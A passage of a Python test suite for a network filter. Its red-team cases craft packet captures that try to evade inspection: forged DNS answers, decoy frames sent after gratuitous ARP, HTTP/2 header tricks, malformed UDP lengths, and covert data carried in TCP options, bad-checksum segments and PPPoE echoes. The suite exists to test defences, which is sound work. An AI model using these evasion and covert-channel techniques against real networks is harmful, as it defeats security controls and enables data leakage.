    client, or any app that does not read: Linux advertises 0 once its receive buffer is
    full). The accomplice's forged answer (e2m.customs.example is 198.18.0.66) arrives at
    the resolver's next byte. The resolver (BIND, Unbound) has its true answer ready but
    cannot send it into a zero window: Linux queues it and sends only zero-window probes
    (tcp_probe_timer: bare ACKs, seq snd_una - 1). After 11 s (past the 10 s in which
    dns_rst_held holds back a RST) the client resets: the RST passes, the resolver's
    socket is reset, its answer never reaches the wire. Must drop the TLS session with
    the e2m name to the forged address."""
    cap = Capture()
    qid = 0x4724
    q = bytes(DNS(id=qid, rd=1, qd=DNSQR(qname=E2M_NAME, qtype="A")))
    q = struct.pack("!H", len(q)) + q
    t = ETcp(cap, S1, 47240, RESOLVER, 53, isn=qid, rtt_us=2000)
    t.handshake()
    t.raw(True, "PA", q, window=0)
    t.cseq += len(q)
    t.raw(False, "A")
    fake = dns_tcp_answer(qid, ATK)
    t.raw(False, "PA", fake, gap=3000)
    t.sseq += len(fake)
    t.raw(True, "A", window=0, gap=100)
    for g in (200000, 400000, 800000, 1600000, 3200000, 6400000):
        t.raw(False, "A", seq=t.sseq - 1, gap=g)
        t.raw(True, "A", window=0, gap=100)
    t.raw(True, "R", seq=t.cseq, gap=1000000)
    cap.idle(0.05)
    tls_flow(cap, S1, 47241, ATK, qid, n, send_whole(hello(n)), leak(n))
    return cap, {"leak": [leak(n)]}


@case
def case_rt7_dns_fin_forged(n):
    """(Red team round 7) As rt5_dns_tcp_forged_rst with a FIN instead of the RST: the
    client shuts its side down at once after the forged answer (shutdown(SHUT_WR), or
    close() with nothing unread). Unbound (comm_point_tcp_handle_read: read() returns 0,
    the comm point is closed, the pending reply dropped) and BIND's netmgr (ISC_R_EOF:
    the TCP client is shut down) close the connection without sending the answer they
    were recursing for: the server's FIN comes, no answer. dns_rst_held held a RST
    only; since round 7 it holds the client's FIN too, so the resolver, never told,
    sends its own answer (198.51.100.5) at the same place, which conflicts with the
    forged one. Must drop the TLS session with the e2m name to the forged address."""
    cap = Capture()
    qid = 0x4726
    t = dns_tcp_conn(cap, 47242, qid)
    t.raw(False, "A")
    fake = dns_tcp_answer(qid, ATK)
    t.raw(False, "PA", fake, gap=3000)
    t.sseq += len(fake)
    t.raw(True, "FA", seq=t.cseq, gap=100)
    # the resolver's own answer, the FIN having not reached it
    t.raw(False, "PA", dns_tcp_answer(qid, E2M), seq=t.sseq - len(fake), gap=2000)
    cap.idle(0.05)
    tls_flow(cap, S1, 47243, ATK, qid, n, send_whole(hello(n)), leak(n))
    return cap, {"leak": [leak(n)]}


@case
def case_rt7_midstream_direct_vk(n):
    """(Red team round 7) Control of rt7_midstream_edge_vk: the same midstream pickup,
    then m.vk.com directly (no decoy): the office reads a midstream flow's requests.
    Must drop (social)."""
    cap, t = _rt7_midstream(n, 49704)
    t.data(True, _rtk_vk_req(n))
    _vk_answer(t, n)
    t.close()
    return cap, {"leak": [leak(n)]}


# ---- red team round 8a (rt8a_): gateway failover, h2c later streams -------------

RT8A_GW1 = "02:00:00:00:fe:01"  # gen_replay's GATEWAY_MAC: the primary gateway
RT8A_GW2 = "02:00:00:00:fe:02"  # the standby


def _rt8a_failback(n, cport):
    """gw_failover's e2m session: the standby (fe:02) takes 10.10.0.1 over by three
    gratuitous ARPs and carries the session for a while; then the standby dies and the
    primary (fe:01) takes the address back by three gratuitous ARPs of its own
    (keepalived: the backup that stops hearing adverts becomes MASTER and sends
    vrrp_garp_master_repeat GARPs), and the session goes on through it."""
    def announce(cap, newgw):
        for i in range(3):
            cap.emit(garp(newgw, "10.10.0.1"), 1000)
    cap, t, newgw = gw_failover(n, cport, announce)
    assert newgw == RT8A_GW2
    rec = tls_appdata(n + "via2", 200)
    cap.emit(Ether(src=host_mac_rt25(S1), dst=RT8A_GW2) / IP(src=S1, dst=E2M)
             / TCP(sport=cport, dport=443, flags="PA", seq=t.cseq & M32, ack=t.sseq & M32, window=64240)
             / Raw(rec), 20000)
    t.cseq += len(rec)
    t.raw(False, "A")
    t.data(False, tls_appdata(n + "via2s", 300))
    cap.idle(3)
    for i in range(3):
        cap.emit(garp(RT8A_GW1, "10.10.0.1"), 1000)
    # from here the client's frames go to the primary again (mac_pair: GATEWAY_MAC)
    t.data(True, tls_appdata(n + "via1", 150))
    t.data(False, tls_appdata(n + "via1s", 300))
    return cap, t


@case
def case_rt8a_garp_failback_decoy(n):
    """(Red team round 8a) A gateway pair fails over and back: the standby (fe:02) takes
    10.10.0.1 by gratuitous ARP, carries the e2m session, then dies (power, kernel panic:
    that is why the primary takes the address back with its own gratuitous ARPs). The
    client's stack follows the announcements (Linux arp_accept / neigh update of an
    existing entry). Then the client sends a well-framed decoy record in a frame to the
    dead standby's MAC: no station on the outside link has that MAC any more, so no router
    forwards it and the server never reads it. Then plaintext HTTP at the decoy's place,
    to the live primary. judge_l2_note keeps every MAC ever announced (dp->l2_moved, never
    forgotten, not tied to the address or to which MAC holds it now), so judge_l2_moved
    takes the frame to the dead MAC as a failover, reads the decoy, and the plaintext
    passes as a retransmission. Must drop."""
    cap, t = _rt8a_failback(n, 53000)
    return gw_decoy_then_plain(n, t, cap, RT8A_GW2)[0], {
        "leak": [leak(n)], "replay_args": ["--inside-mac", host_mac_rt25(S1)]}


@case
def case_rt8a_garp_failback_ok(n):
    """(Red team round 8a) Must-allow twin of rt8a_garp_failback_decoy: the same failover
    to the standby and back to the primary (both announced by gratuitous ARP on the
    outside link), and the e2m session goes on through the primary to its end."""
    cap, t = _rt8a_failback(n, 53001)
    t.data(True, marked_record(passm(n), n + "c", 200))
    t.data(False, marked_record(passm(n) + b"srv", n + "d", 500))
    t.close()
    return cap, {"pass": [passm(n), passm(n) + b"srv"], "replay_args": ["--inside-mac", host_mac_rt25(S1)]}


RT8A_HOSTMAC = "02:00:00:00:aa:50"  # a host (no router) on the outside link


@case
def case_rt8a_garp_host_decoy(n):
    """(Red team round 8a) The outside link is a segment with more than the gateway on it
    (a DMZ or a transfer net: a monitoring box, a second firewall's management port).
    Such a host announces its own address when it configures it (RFC 5227 2.3 ARP
    announcement: sender and target address the same; NetworkManager, systemd-networkd
    and Windows send them; arping -U). That is no gateway failover: the zone's hosts
    never send to that MAC, and a host with ip_forward off drops a frame for its MAC whose
    IP destination is not its own (ip_route_input: not local, no forwarding). The client
    (which saw the broadcast: aduana forwards it inside) sends a well-framed decoy record
    to that MAC, then plaintext HTTP at its place to the real gateway. judge_l2_note takes
    any announcement on the outside port as a moved gateway (whatever address it names),
    so the decoy is read and the plaintext passes as a retransmission. Must drop."""
    cap = Capture()
    t = rt25_session(cap, 53002, 53002, 53002 + 29000, n)
    t.data(True, tls_appdata(n + "a", 200))
    t.data(False, tls_appdata(n + "b", 500))
    cap.idle(1)
    cap.emit(garp(RT8A_HOSTMAC, "203.0.113.50"), 1000)
    cap.idle(1)
    t.data(True, tls_appdata(n + "c", 150))
    t.data(False, tls_appdata(n + "d", 300))
    return gw_decoy_then_plain(n, t, cap, RT8A_HOSTMAC)[0], {"leak": [leak(n)]}


@case
def case_rt8a_garp_host_http_vk(n):
    """(Red team round 8a) rt8a_garp_host_decoy against the office's read HTTP client
    (judge_http_more vets a new copy with judge_discardable, MAC included: red team
    round 4, rt4_l2other_insert_vk). A host on the outside link announces its own address
    (RFC 5227), then, after four answered requests for www.example.org, the client sends
    a decoy GET for www.example.org in a frame to that host's MAC (the host, no router,
    drops it: the server never reads it), then GET m.vk.com at its place to the gateway.
    The announced MAC counts as a moved gateway: the decoy is read, the real request
    passes as old bytes. Must drop (social)."""
    cap, t = ka_flow(n, 53003)
    cap.idle(1)
    cap.emit(garp(RT8A_HOSTMAC, "203.0.113.50"), 1000)
    cap.idle(1)
    real = _rtk_vk_req(n)
    decoy = _decoy_for(real)
    base = t.cseq
    pkt = l2(t.c, t.s) / IP(src=t.c, dst=t.s) / TCP(sport=t.cport, dport=t.sport, flags="PA", seq=base & M32,
                                                 ack=t.sseq & M32, window=64240) / Raw(decoy)
    pkt[Ether].dst = RT8A_HOSTMAC
    cap.emit(pkt, 10000)
    t.raw(True, "PA", real, seq=base, gap=200000)
    t.cseq = base + len(real)
    _vk_answer(t, n)
    t.close()
    return cap, {"leak": [leak(n)]}


def _rt8a_huff(s):
    from hpack.huffman import HuffmanEncoder
    from hpack.huffman_constants import REQUEST_CODES, REQUEST_CODES_LENGTH
    return HuffmanEncoder(REQUEST_CODES, REQUEST_CODES_LENGTH).encode(s)


@case
def case_rt8a_h2pk_late_hostonly_vk(n):
    """(Red team round 8a) Office h2c (h2c_long: 40 streams for www.example.org, decided
    long before), then stream 81 with no :authority and a regular "host: m.vk.com" field
    (RFC 9113 8.3.1: a request without :authority is routed by Host; curl's h2c and
    proxies that translate HTTP/1.1 send it so; nginx takes Host when :authority is
    absent). Must drop (social)."""
    def last(t):
        blk = b"\x82\x86\x84" + b"\x00\x04host\x08m.vk.com" + b"\x00\x06x-mark" + bytes([len(leak(n))]) + leak(n)
        t.data(True, h2_frame(1, 5, 81, blk))
        t.data(False, h2_frame(1, 4, 81, b"\x88") + h2_frame(0, 1, 81, leak(n)))
    return h2c_long(n, 53004, last, leak(n)), {"leak": [leak(n)]}


@case
def case_rt8a_h2pk_late_hostonly_ok(n):
    """(Red team round 8a) Must-allow twin of rt8a_h2pk_late_hostonly_vk: stream 81 routed
    by "host: www.example.org" without :authority, then stream 83 as usual."""
    def last(t):
        blk = b"\x82\x86\x84" + b"\x00\x04host\x0fwww.example.org"
        t.data(True, h2_frame(1, 5, 81, blk))
        t.data(False, h2_frame(1, 4, 81, b"\x88") + h2_frame(0, 1, 81, b"ok"))
        t.data(True, h2_frame(1, 5, 83, h2_idx_block(b"www.example.org", passm(n), True)))
        t.data(False, h2_frame(1, 4, 83, b"\x88") + h2_frame(0, 1, 83, passm(n)))
    return h2c_long(n, 53005, last, passm(n)), {"pass": [passm(n)]}


@case
def case_rt8a_h2pk_late_huff_vk(n):
    """(Red team round 8a) Office h2c (h2c_long), then stream 81 whose :authority is a
    Huffman-coded literal with incremental indexing of "M.VK.COM:80" (upper case and the
    port: nginx lower-cases the host and strips the port, ngx_http_validate_host; so do
    Go and h2o), and a Huffman-coded x-mark name, in a HEADERS frame with PADDED and PRIORITY
    (RFC 9113 6.2) and a CONTINUATION, each frame cut across two segments. Must drop
    (social)."""
    def last(t):
        auth = _rt8a_huff(b"M.VK.COM:80")
        hx = _rt8a_huff(b"x-mark")
        blk = (b"\x82\x86\x84" + b"\x41" + bytes([0x80 | len(auth)]) + auth
               + b"\x00" + bytes([0x80 | len(hx)]) + hx + bytes([len(leak(n))]) + leak(n))
        pad = 7
        hp = bytes([pad]) + struct.pack("!I", 0) + b"\x10" + blk[:5] + b"\x00" * pad
        f1 = h2_frame(1, 0x08 | 0x20 | 0x01, 81, hp)
        f2 = h2_frame(9, 4, 81, blk[5:])
        both = f1 + f2
        cut = len(f1) - 3
        t.data(True, both[:cut])
        t.data(True, both[cut:])
        t.data(False, h2_frame(1, 4, 81, b"\x88") + h2_frame(0, 1, 81, leak(n)))
    return h2c_long(n, 53006, last, leak(n)), {"leak": [leak(n)]}


@case
def case_rt8a_h2pk_goaway_vk(n):
    """(Red team round 8a) Office h2c (h2c_long), then the client sends GOAWAY (last
    stream 0, NO_ERROR) and an unknown frame type 0xb, then stream 81 for m.vk.com. nginx
    only logs a client's GOAWAY (ngx_http_v2_state_goaway skips it) and serves the new
    stream; unknown types are skipped (RFC 9113 5.5). Must drop (social)."""
    def last(t):
        t.data(True, h2_frame(7, 0, 0, b"\x00\x00\x00\x00\x00\x00\x00\x00") + h2_frame(0xb, 0, 0, b"xyz"))
        t.data(True, h2_frame(1, 5, 81, h2_idx_block(b"m.vk.com", leak(n), False)))
        t.data(False, h2_frame(1, 4, 81, b"\x88") + h2_frame(0, 1, 81, leak(n)))
    return h2c_long(n, 53007, last, leak(n)), {"leak": [leak(n)]}



def _rt8a_emit_to(t, payload, mac, seq=None, gap=10000):
    """A client segment of t at seq (its next byte by default) in a frame to mac."""
    seq = t.cseq if seq is None else seq
    ipl = IPv6 if ":" in t.c else IP
    pkt = l2(t.c, t.s) / ipl(src=t.c, dst=t.s) / TCP(sport=t.cport, dport=t.sport, flags="PA", seq=seq & M32,
                                                  ack=t.sseq & M32, window=64240) / Raw(payload)
    pkt[Ether].dst = mac
    t.cap.emit(pkt, gap)


@case
def case_rt8a_garp_failback_http_vk(n):
    """(Red team round 8a) rt8a_garp_failback_decoy against the office's read HTTP client:
    the office gateway (10.20.0.1) fails over to the standby (fe:02, three gratuitous ARPs
    on the outside link) and a request goes through it; the standby dies and the primary
    (fe:01) takes the address back (three gratuitous ARPs) and a request goes through it.
    Then a decoy GET for www.example.org in a frame to the dead standby's MAC (nobody on
    the link has it: never forwarded, never read by the server), then GET m.vk.com at its
    place to the primary. The list of moved MACs keeps fe:02 for ever, whatever took its
    address back: the decoy is read, the real request passes as old bytes. Must drop
    (social)."""
    cap, t = ka_flow(n, 53008)
    cap.idle(2)
    for i in range(3):
        cap.emit(garp(RT8A_GW2, "10.20.0.1"), 1000)
    req = b"GET /via2 HTTP/1.1\r\nHost: www.example.org\r\nUser-Agent: curl/8.5.0\r\n\r\n"
    _rt8a_emit_to(t, req, RT8A_GW2)
    t.cseq += len(req)
    _ok_answer(t, n, mark=False)
    cap.idle(3)
    for i in range(3):
        cap.emit(garp(RT8A_GW1, "10.20.0.1"), 1000)
    t.data(True, b"GET /via1 HTTP/1.1\r\nHost: www.example.org\r\nUser-Agent: curl/8.5.0\r\n\r\n")
    _ok_answer(t, n, mark=False)
    real = _rtk_vk_req(n)
    decoy = _decoy_for(real)
    base = t.cseq
    _rt8a_emit_to(t, decoy, RT8A_GW2, seq=base)
    t.raw(True, "PA", real, seq=base, gap=200000)
    t.cseq = base + len(real)
    _vk_answer(t, n)
    t.close()
    return cap, {"leak": [leak(n)], "replay_args": ["--inside-mac", host_mac_rt25(O1)]}


@case
def case_rt8a_garp_failback_http_ok(n):
    """(Red team round 8a) Must-allow twin of rt8a_garp_failback_http_vk: the same failover
    and failback of the office gateway, then the next GET (www.example.org) through the
    primary, answered."""
    cap, t = ka_flow(n, 53009)
    cap.idle(2)
    for i in range(3):
        cap.emit(garp(RT8A_GW2, "10.20.0.1"), 1000)
    req = b"GET /via2 HTTP/1.1\r\nHost: www.example.org\r\nUser-Agent: curl/8.5.0\r\n\r\n"
    _rt8a_emit_to(t, req, RT8A_GW2)
    t.cseq += len(req)
    _ok_answer(t, n, mark=False)
    cap.idle(3)
    for i in range(3):
        cap.emit(garp(RT8A_GW1, "10.20.0.1"), 1000)
    t.data(True, b"GET /via1 HTTP/1.1\r\nHost: www.example.org\r\nX-Mark: " + passm(n) + b"\r\n\r\n")
    _ok_answer(t, n)
    t.close()
    return cap, {"pass": [passm(n)], "replay_args": ["--inside-mac", host_mac_rt25(O1)]}


@case
def case_rt8a_na_host_http6_vk(n):
    """(Red team round 8a) rt8a_garp_host_http_vk over IPv6: a host on the outside link
    (no router) sends an unsolicited neighbour advertisement with the override flag for
    its own address (Linux with ndisc_notify=1 does at every address or link change; RFC
    4861 7.2.6), which aduana forwards inside. An office IPv6 client, after four answered
    requests for www.example.org, sends a decoy GET for www.example.org in a frame to
    that host's MAC (a host that does not forward drops a packet for another address:
    ip6_forward off), then GET m.vk.com at its place to the gateway. judge_l2_note takes
    the NA as a moved gateway. Must drop (social)."""
    from scapy.layers.inet6 import ICMPv6ND_NA, ICMPv6NDOptDstLLAddr
    cap = Capture()
    t = ETcp(cap, "2001:db8:20::20", 53010, SOC6, 80, isn=53010 * 7, rtt_us=20000)
    t.handshake()
    for i in range(4):
        t.data(True, b"GET /%d HTTP/1.1\r\nHost: www.example.org\r\nUser-Agent: curl/8.5.0\r\n\r\n" % i)
        body = prand("%s-b%d" % (n, i), 200)
        t.data(False, b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n" % len(body) + body)
    cap.idle(1)
    na = (Ether(src=RT8A_HOSTMAC, dst="33:33:00:00:00:01")
          / IPv6(src="fe80::aa:50", dst="ff02::1", hlim=255)
          / ICMPv6ND_NA(R=0, S=0, O=1, tgt="2001:db8:ff::50")
          / ICMPv6NDOptDstLLAddr(lladdr=RT8A_HOSTMAC))
    cap.emit(na, 1000)
    cap.idle(1)
    real = _rtk_vk_req(n)
    decoy = _decoy_for(real)
    base = t.cseq
    _rt8a_emit_to(t, decoy, RT8A_HOSTMAC, seq=base)
    t.raw(True, "PA", real, seq=base, gap=200000)
    t.cseq = base + len(real)
    _vk_answer(t, n)
    t.close()
    return cap, {"leak": [leak(n)]}



# --- red team round 8b (rt8b_): carriers and parser/receiver disagreements at the IP,
# UDP and TCP-option layers (ports 53200-53399)

def _rt8b_csum(b):
    if len(b) % 2:
        b += b"\x00"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return (~s) & 0xFFFF


def rt8b_udp_trailer(src, sport, dst, dport, payload, trailer):
    """An IP datagram whose UDP header (length and checksum) covers `payload` alone
    and which carries `trailer` after it: Linux's __udp4_lib_rcv / udpv6_rcv trim the
    datagram to the UDP length (pskb_trim_rcsum) and deliver the payload; every router
    forwards the whole IP datagram."""
    ipc = IPv6 if ":" in src else IP
    p = ipc(bytes(ipc(src=src, dst=dst) / UDP(sport=sport, dport=dport) / Raw(payload)))
    p[Raw].load = p[Raw].load + trailer
    if ipc is IP:
        p.len = None
        p.chksum = None
    else:
        p.plen = None
    return l2(src, dst) / p


def rt8b_udp6_len0(src, sport, dst, dport, payload):
    """IPv6 UDP with the length field 0: Linux's udpv6_rcv takes 0 as a jumbogram's
    length ("if (ulen == 0) ulen = skb->len") without looking for a Jumbo Payload
    option, sums the datagram with its real length, and delivers it."""
    import socket
    n = 8 + len(payload)
    hdr = struct.pack("!HHHH", sport, dport, 0, 0)
    pseudo = (socket.inet_pton(socket.AF_INET6, src) + socket.inet_pton(socket.AF_INET6, dst)
              + struct.pack("!I", n) + b"\x00\x00\x00\x11")
    ck = _rt8b_csum(pseudo + hdr + payload) or 0xFFFF
    u = struct.pack("!HHHH", sport, dport, 0, ck) + payload
    return l2(src, dst) / IPv6(src=src, dst=dst, nh=17, plen=n) / Raw(u)


def rt8b_quic_dgrams(n, v6=False):
    dcid, scid = _q_ids(n)
    first = quic_initial(dcid, scid, 0, quic_crypto_frame(0, quic_hs_hello(n, FB)))
    srv = (b"\xe0\x00\x00\x00\x01\x08" + prand(n + "sd", 8) + b"\x08" + prand(n + "ss", 8)
           + prand(n + "srv", 1150))
    c1 = b"\x40" + prand(n + "sd", 8) + prand(n + "c1", 300)
    c2 = b"\x41" + prand(n + "sd", 8) + leak(n) + prand(n + "c2", 300)
    return first, srv, c1, c2


@case
def case_rt8b_udptrail_quic_fb(n):
    """(Red team round 8b) Office: quic_fb_ctl's QUIC Initial for www.facebook.com, and
    every later client datagram, with 4 bytes after the UDP length inside the IPv4
    datagram (zapret's udplen trick). Linux trims each datagram to its UDP length and the
    QUIC server reads the Initial as sent. aduana's parser calls the datagram malformed,
    and the office's on_exception (allow) forwards it unread. Must drop (social)."""
    cap = Capture()
    first, srv, c1, c2 = rt8b_quic_dgrams(n)
    tr = b"\x00\x00\x00\x00"
    cap.emit(rt8b_udp_trailer(O1, 53200, SOC, 443, first, tr), 2000)
    udp(cap, SOC, 443, O1, 53200, srv, gap=20000)
    cap.emit(rt8b_udp_trailer(O1, 53200, SOC, 443, c1, tr), 20000)
    cap.emit(rt8b_udp_trailer(O1, 53200, SOC, 443, c2, tr), 20000)
    return cap, {"leak": [leak(n)]}


@case
def case_rt8b_udptrail_dht(n):
    """(Red team round 8b) Office: dht_ctl's BitTorrent DHT get_peers queries, each with
    one byte after the UDP length inside the IPv4 datagram: the node's stack trims it
    and libtorrent bdecodes the query. aduana calls each datagram malformed; the office
    allows exceptions. Must drop (p2p)."""
    cap = Capture()
    cap.emit(rt8b_udp_trailer(O1, 53201, SOC, 6881, rt_dht_query(n, b"aa"), b"\x00"), 10000)
    udp(cap, SOC, 6881, O1, 53201, b"d1:rd2:id20:" + prand(n + "nid", 20) + b"5:token8:"
        + prand(n + "tok", 8) + b"e1:t2:aa1:y1:re")
    cap.emit(rt8b_udp_trailer(O1, 53201, SOC, 6881, rt_dht_query(n + "2", leak(n)), b"\x00"), 10000)
    return cap, {"leak": [leak(n)]}


@case
def case_rt8b_udp6len0_quic_fb(n):
    """(Red team round 8b) Office IPv6: the QUIC Initial for www.facebook.com and the
    client's later datagrams with the UDP length field 0 (the jumbogram value, RFC 2675,
    without the Jumbo Payload option): Linux's udpv6_rcv reads 0 as "the rest of the
    packet" and delivers them. aduana's parser refuses a UDP length under 8 as malformed;
    the office allows exceptions. Must drop (social)."""
    cap = Capture()
    first, srv, c1, c2 = rt8b_quic_dgrams(n)
    cap.emit(rt8b_udp6_len0(O6, 53202, SOC6, 443, first), 2000)
    udp(cap, SOC6, 443, O6, 53202, srv, gap=20000)
    cap.emit(rt8b_udp6_len0(O6, 53202, SOC6, 443, c1), 20000)
    cap.emit(rt8b_udp6_len0(O6, 53202, SOC6, 443, c2), 20000)
    return cap, {"leak": [leak(n)]}


def rt8b_opt_carrier(n, cport, kind, size=38):
    def send(t, rec, i):
        data = (leak(n) + prand("%s%d" % (n, i), size))[:size - 2]
        t.raw(True, "PA", rec, options=[(kind, data)])
    return carrier_flow(n, cport, cport, False, send), {"leak": [leak(n)]}


@case
def case_rt8b_carrier_mss38(n):
    """(Red team round 8b) carrier_tcpopt with a known kind: every record of an allowed
    e2m session carries an MSS option (kind 2) 38 bytes long, the marker in it. Linux's
    tcp_parse_options reads MSS only on a SYN with length 4 and skips any other by its
    length; the segment is taken and routers carry the 36 bytes to the Internet. Must
    not pass."""
    return rt8b_opt_carrier(n, 53210, 2)


@case
def case_rt8b_carrier_tfo_data(n):
    """(Red team round 8b) The same with a TCP Fast Open option (kind 34) of 38 bytes on
    every data segment: Linux reads a Fast Open cookie on a SYN only and skips the
    option elsewhere. No stack sends one after the handshake. Must not pass."""
    return rt8b_opt_carrier(n, 53211, 34)


@case
def case_rt8b_carrier_mptcp(n):
    """(Red team round 8b) The same with an MPTCP option (kind 30) of 38 bytes on every
    data segment of a connection whose SYN and SYN-ACK carried no MP_CAPABLE: neither
    end runs MPTCP on it, Linux skips the option (mptcp_parse_option only on an MPTCP
    subflow). Must not pass."""
    return rt8b_opt_carrier(n, 53212, 30)


@case
def case_rt8b_carrier_accecn(n):
    """(Red team round 8b) The same with an AccECN option (kind 172) of 38 bytes on every
    data segment of a connection that never negotiated AccECN (no AE/CWR/ECE on its SYN):
    the option has at most three 24-bit counters (11 bytes, RFC 9768 3.2.3); a receiver
    not in AccECN mode skips it. Must not pass."""
    return rt8b_opt_carrier(n, 53213, 172)


@case
def case_rt8b_mptcp_ok(n):
    """(Red team round 8b) Must-allow twin of rt8b_carrier_mptcp: a genuine MPTCP v1
    client (RFC 8684; Linux 5.6+, iOS) to the e2m endpoint: MP_CAPABLE on the SYN. Since
    the twenty-first session aduana takes MPTCP off a checked flow's SYN
    (judge_syn_normalise), so the server answers without it and the client falls back
    to TCP (RFC 8684 3.7): no MPTCP option after the SYN. (Before, the server agreed and
    DSS options rode every segment, which round 11's rt11_mptcp_dss_swap used.)"""
    cap = Capture()
    t = ETcp(cap, S1, 53224, E2M, 443, isn=53224, rtt_us=20000)
    kc, ks = prand(n + "kc", 8), prand(n + "ks", 8)
    t.raw(True, "S", options=Tcp.SYN_OPTS + [(30, b"\x01\x01")])
    t.cseq += 1
    t.raw(False, "SA", options=Tcp.SYN_OPTS)
    t.sseq += 1
    t.raw(True, "A")
    dsn = {True: 1, False: 1}
    assert kc and ks

    def seg(from_client, payload):
        t.raw(from_client, "PA", payload)
        dsn[from_client] += len(payload)
        if from_client:
            t.cseq += len(payload)
        else:
            t.sseq += len(payload)
        t.raw(not from_client, "A")
    seg(True, hello(n))
    seg(False, server_hello_flight(n))
    seg(True, CCS + tls_appdata(n + "fin", 53))
    seg(True, marked_record(passm(n), n + "req", 200))
    seg(False, marked_record(passm(n) + b"srv", n + "resp", 500))
    t.close()
    return cap, {"pass": [passm(n), passm(n) + b"srv"]}


@case
def case_rt8b_carrier_sack(n):
    """(Red team round 8b) Every client record carries a SACK option of four blocks (32
    bytes: the marker and random words) while the server has sent nothing since the
    client's last ACK: no block lies in the server's sequence space. Linux discards
    invalid SACK blocks (tcp_is_sackblock_valid) and takes the segment; routers carry the
    blocks on. Must not pass."""
    def send(t, rec, i):
        raw = (leak(n) + prand("%s%d" % (n, i), 32))[:32]
        blocks = struct.unpack("!8I", raw)
        t.raw(True, "PA", rec, options=[("SAck", blocks)])
    return carrier_flow(n, 53214, 53214, False, send), {"leak": [leak(n)]}


@case
def case_rt8b_eth_trailer(n):
    """(Red team round 8b) Every client record of an allowed e2m session in a frame with
    1000 bytes after the IPv4 datagram (the IP total length exact, the frame longer): not
    Ethernet padding (the frame is far over 60 bytes). The next hop trims the frame to the
    IP length (ip_rcv_core), so the bytes reach only the outside link's next hop, which a
    bridge's outside segment shares with whatever listens there. eth_pad_junk_ok's junk
    fills a short frame up to 60 bytes only. Must not pass."""
    def send(t, rec, i):
        p = IP(src=t.c, dst=t.s) / TCP(sport=t.cport, dport=t.sport, flags="PA", seq=t.cseq,
                                         ack=t.sseq, window=64240) / Raw(rec)
        raw = bytes(l2(t.c, t.s, t.vlans) / p) + leak(n) + prand("%s%d" % (n, i), 1000)
        t.cap.emit(Ether(raw), t.rtt // 2)
    return carrier_flow(n, 53215, 53215, False, send), {"leak": [leak(n)]}


@case
def case_rt8b_carrier_badsum(n):
    """(Red team round 8b) After the allow, each client record is preceded by a segment
    at the same sequence number with a wrong TCP checksum and 1000 bytes of no TLS (the
    marker). The server's stack discards it; routers do not sum TCP and carry it to the
    Internet, where anything on the path reads it. aduana neither reads nor drops a
    segment whose sum is wrong ("forwarded: harmless"): a carrier of a full segment per
    packet, wider than carrier_tcpopt's 36 bytes. Must not pass."""
    def send(t, rec, i):
        t.raw(True, "PA", leak(n) + prand("%s-b%d" % (n, i), 1000), tcpkw={"chksum": 0xDEAD})
        t.raw(True, "PA", rec)
    return carrier_flow(n, 53216, 53216, False, send), {"leak": [leak(n)]}


@case
def case_rt8b_carrier_oldseq(n):
    """(Red team round 8b) After the allow, before each client record a segment of 1000
    bytes (the marker) at the client's first sequence number: bytes the server
    acknowledged long ago. The server's stack drops it as a duplicate (a dup ACK);
    aduana forwards bytes below its next byte as a retransmission, unread, so they cross
    the Internet. Honest retransmissions repeat the bytes they cover; these do not.
    Must not pass."""
    def send(t, rec, i):
        t.raw(True, "PA", leak(n) + prand("%s-o%d" % (n, i), 1000), seq=53216 + 2)
        t.raw(True, "PA", rec)
    return carrier_flow(n, 53217, 53217, False, send), {"leak": [leak(n)]}


@open_case
def case_rt8b_carrier_oldbody(n):
    """(Red team round 8b) rt8b_carrier_oldseq inside a record's body: the client sends a
    4000-byte record in three segments, the server acknowledges it; then, three times,
    1000 bytes (the marker) at offset 1500 of that body, a range the server acknowledged
    and no record header lies in. The server's stack drops them as duplicates; aduana
    forwards bytes below its next byte unread (their range moves no header: the header
    log has nothing to compare), so they cross the Internet. Must not pass."""
    cap = Capture()
    t = tls_established(cap, S1, 53218, E2M, 53218, n)
    rec = tls_appdata(n + "big", 4000)
    base = t.cseq
    for off in range(0, len(rec), 1400):
        t.raw(True, "PA", rec[off:off + 1400], seq=base + off, gap=200)
    t.cseq = base + len(rec)
    t.ack(False)
    for i in range(3):
        t.raw(True, "PA", leak(n) + prand("%s-o%d" % (n, i), 1000), seq=base + 1500, gap=50000)
        t.ack(False)
    t.data(True, tls_appdata(n + "more", 200))
    t.data(False, tls_appdata(n + "end", 200))
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_rt8b_spurious_retx_ok(n):
    """(Red team round 8b) Must-allow twin of rt8b_carrier_oldseq: the server's ACK of a
    client record is lost on the inside LAN after aduana saw it; the client's RTO fires
    and it sends the record again, byte for byte (a spurious retransmission of
    acknowledged bytes); the server answers with a dup ACK and the session goes on."""
    cap = Capture()
    t = tls_established(cap, S1, 53219, E2M, 53219, n)
    rec = marked_record(passm(n), n + "r", 300)
    base = t.cseq
    t.raw(True, "PA", rec)
    t.cseq += len(rec)
    t.ack(False)                                   # lost between aduana and the client
    t.raw(True, "PA", rec, seq=base, gap=200000)   # the RTO's retransmission
    t.ack(False)                                   # the server's dup ACK
    t.data(False, marked_record(passm(n) + b"srv", n + "s", 400))
    t.data(True, tls_appdata(n + "more", 200))
    t.close()
    return cap, {"pass": [passm(n), passm(n) + b"srv"]}


@case
def case_rt8b_pppoe_lcp_carrier(n):
    """(Red team round 8b) During an allowed e2m session the strict host sends, from its
    own MAC to the gateway's, PPPoE session frames (0x8864) holding an LCP Echo-Request
    (protocol 0xc021) whose data after the magic number is 1000 bytes: the marker. The
    parser passes PPP control protocols (0x8000 and up) as link service, unjudged, from
    any inside host, with anything in them; a concentrator answers an Echo-Request with
    the same data (RFC 1661 5.8). pppd's LCP echoes carry the 4-byte magic number only.
    Closed in the twenty-third session: PPP control packets from inside are held to the
    protocols a client negotiates, 300 bytes, an echo's data to 16 (parse_link_ppp,
    counters.link_refused). The replay is told the host's MAC (--inside-mac): the frame
    has no address to tell its side by. Must not pass."""
    def send(t, rec, i):
        t.raw(True, "PA", rec)
        data = leak(n) + prand("%s-l%d" % (n, i), 1000)
        lcp = bytes([9, i + 1]) + struct.pack("!H", 8 + len(data)) + b"\x12\x34\x56\x78" + data
        ppp = struct.pack("!BBHH", 0x11, 0, 0x1234, 2 + len(lcp)) + b"\xc0\x21" + lcp
